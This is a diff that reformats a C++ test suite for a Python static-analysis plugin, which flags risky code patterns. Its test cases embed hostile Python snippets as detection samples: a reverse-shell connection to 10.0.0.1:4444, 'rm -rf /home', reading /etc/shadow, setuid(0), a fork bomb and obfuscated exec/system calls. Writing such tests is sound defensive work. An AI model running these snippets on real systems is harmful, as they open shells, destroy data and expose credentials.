@@ -22,13 +22,15 @@ const Assessor& plugin() {
     c->load_file(std::string(WARDEN_PLUGIN_DIR) + "/heuristics.so");
     return c;
   }();
-  static auto assessor = catalog->create_assessor("heuristics", {}, "assessors.settings.heuristics");
+  static auto assessor =
+      catalog->create_assessor("heuristics", {}, "assessors.settings.heuristics");
   return *assessor;
 }
 
 std::set<std::string> rules_found(const std::string& code) {
   std::set<std::string> ids;
-  for (const auto& f : plugin().assess(code, "python", "t.py", std::chrono::seconds(5), {})) ids.insert(f.rule_id);
+  for (const auto& f : plugin().assess(code, "python", "t.py", std::chrono::seconds(5), {}))
+    ids.insert(f.rule_id);
   return ids;
 }
 
@@ -45,25 +47,37 @@ const Case kCases[] = {
      "import base64\nprint(base64.b64decode('aGk='))"},
     {"heuristics.shell-command", "import subprocess\nsubprocess.run('ls', shell=True)",
      "import subprocess\nsubprocess.run(['ls'])"},
-    {"heuristics.process-exec", "import os\nos.execv('/bin/ls', ['ls'])", "import os\nos.path.exists('/bin/ls')"},
-    {"heuristics.subprocess", "from subprocess import check_output\ncheck_output(['git', 'status'])",
+    {"heuristics.process-exec", "import os\nos.execv('/bin/ls', ['ls'])",
+     "import os\nos.path.exists('/bin/ls')"},
+    {"heuristics.subprocess",
+     "from subprocess import check_output\ncheck_output(['git', 'status'])",
      "print('subprocess.run')"},
-    {"heuristics.destructive-command", "import os\nos.system('rm -rf /home')", "import os\nos.system('ls -l')"},
+    {"heuristics.destructive-command", "import os\nos.system('rm -rf /home')",
+     "import os\nos.system('ls -l')"},
     {"heuristics.privilege", "import os\nos.setuid(0)", "import os\nos.getuid()"},
-    {"heuristics.system-path-write", "open('/etc/hosts', 'a').write('1.2.3.4 x')", "open('notes.txt', 'w').write('x')"},
-    {"heuristics.sensitive-read", "print(open('/etc/shadow').read())", "print(open('data.csv').read())"},
-    {"heuristics.native-code", "import ctypes\nctypes.CDLL('libc.so.6')", "import json\njson.dumps({})"},
-    {"heuristics.deserialization", "import pickle\npickle.loads(blob)", "import json\njson.loads(blob)"},
-    {"heuristics.dynamic-import", "name = 'o' + 's'\nm = __import__(name)", "import importlib\nimportlib.import_module('json')"},
-    {"heuristics.builtins-access", "__builtins__['eval']('1')", "import builtins\nprint(builtins.len([1]))"},
-    {"heuristics.dunder-walk", "().__class__.__bases__[0].__subclasses__()", "print(type(self).__name__)"},
-    {"heuristics.computed-attribute", "import os\ngetattr(os, 'sys' + 'tem')('id')", "x = getattr(obj, 'name', None)"},
+    {"heuristics.system-path-write", "open('/etc/hosts', 'a').write('1.2.3.4 x')",
+     "open('notes.txt', 'w').write('x')"},
+    {"heuristics.sensitive-read", "print(open('/etc/shadow').read())",
+     "print(open('data.csv').read())"},
+    {"heuristics.native-code", "import ctypes\nctypes.CDLL('libc.so.6')",
+     "import json\njson.dumps({})"},
+    {"heuristics.deserialization", "import pickle\npickle.loads(blob)",
+     "import json\njson.loads(blob)"},
+    {"heuristics.dynamic-import", "name = 'o' + 's'\nm = __import__(name)",
+     "import importlib\nimportlib.import_module('json')"},
+    {"heuristics.builtins-access", "__builtins__['eval']('1')",
+     "import builtins\nprint(builtins.len([1]))"},
+    {"heuristics.dunder-walk", "().__class__.__bases__[0].__subclasses__()",
+     "print(type(self).__name__)"},
+    {"heuristics.computed-attribute", "import os\ngetattr(os, 'sys' + 'tem')('id')",
+     "x = getattr(obj, 'name', None)"},
     {"heuristics.network", "import socket\ns = socket.create_connection(('example.com', 80))",
      "print('socket.create_connection')"},
     {"heuristics.raw-socket", "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_RAW)",
      "import socket\nsocket.gethostname()"},
     {"heuristics.reverse-shell",
-     "import socket, os\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\nos.dup2(s.fileno(), 0)",
+     "import socket, os\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\nos.dup2(s.fileno(), "
+     "0)",
      "import os\nos.dup2(1, 2)"},
     {"heuristics.fork-bomb", "import os\nwhile True:\n    os.fork()", "import os\npid = os.fork()"},
 };
@@ -89,19 +103,24 @@ TEST_CASE("every rule has a positive and a negative example") {
 TEST_CASE("obfuscated forms are still seen") {
   CHECK(rules_found("import os as o\no.system('id')").count("heuristics.shell-command"));
   CHECK(rules_found("from os import system as s\ns('id')").count("heuristics.shell-command"));
-  CHECK(rules_found("from subprocess import *\nPopen('id', shell=True)").count("heuristics.shell-command"));
+  CHECK(rules_found("from subprocess import *\nPopen('id', shell=True)")
+            .count("heuristics.shell-command"));
   CHECK(rules_found("import os\nf = os.system\nf('id')").count("heuristics.shell-command"));
   CHECK(rules_found("exec(''.join(['pr', 'int(1)'])[::-1])").count("heuristics.decoded-payload"));
-  CHECK(rules_found("import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))").count("heuristics.decoded-payload"));
-  CHECK(rules_found("import zlib, base64\np = zlib.decompress(base64.b64decode(d))\nexec(p)").count(
-      "heuristics.decoded-payload"));
-  CHECK(rules_found("exec(bytes.fromhex('7072696e74283129').decode())").count("heuristics.decoded-payload"));
+  CHECK(rules_found("import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))")
+            .count("heuristics.decoded-payload"));
+  CHECK(rules_found("import zlib, base64\np = zlib.decompress(base64.b64decode(d))\nexec(p)")
+            .count("heuristics.decoded-payload"));
+  CHECK(rules_found("exec(bytes.fromhex('7072696e74283129').decode())")
+            .count("heuristics.decoded-payload"));
   CHECK(rules_found("x = f'{eval(\"1\")}'").count("heuristics.code-exec"));
-  CHECK(rules_found("m = __import__(chr(111) + chr(115))\nm.system('id')").count("heuristics.dynamic-import"));
+  CHECK(rules_found("m = __import__(chr(111) + chr(115))\nm.system('id')")
+            .count("heuristics.dynamic-import"));
 }
 
 TEST_CASE("the tokenizer keeps comments and strings apart from code") {
-  auto tokens = python::tokenize("x = 'a # not a comment'  # a comment\ns = r'\\d+' + \"\"\"multi\nline\"\"\"\n");
+  auto tokens = python::tokenize(
+      "x = 'a # not a comment'  # a comment\ns = r'\\d+' + \"\"\"multi\nline\"\"\"\n");
   std::vector<python::TokenKind> kinds;
   for (const auto& t : tokens) kinds.push_back(t.kind);
   int strings = 0, comments = 0;
@@ -137,7 +156,8 @@ TEST_CASE("the tokenizer and the rules survive garbage") {
 
 TEST_CASE("metrics count what policies size limits by") {
   auto m = python::compute_metrics(
-      "import os\nfrom json import dumps\n\nclass A:\n    def f(self, x):\n        for i in range(x):\n"
+      "import os\nfrom json import dumps\n\nclass A:\n    def f(self, x):\n        for i in "
+      "range(x):\n"
       "            if i % 2:\n                print(f'{i}')\n        return 'a'.join([])\n");
   CHECK(m.imports == 2);
   CHECK(m.classes == 1);
@@ -149,6 +169,8 @@ TEST_CASE("metrics count what policies size limits by") {
   CHECK(m.code_lines == 8);
   CHECK(m.complexity > 0);
   std::string bigger;
-  for (int i = 0; i < 60; ++i) bigger += "def f" + std::to_string(i) + "(x):\n    for y in x:\n        if y:\n            print(y)\n";
+  for (int i = 0; i < 60; ++i)
+    bigger += "def f" + std::to_string(i) +
+              "(x):\n    for y in x:\n        if y:\n            print(y)\n";
   CHECK(python::compute_metrics(bigger).complexity > m.complexity);
 }
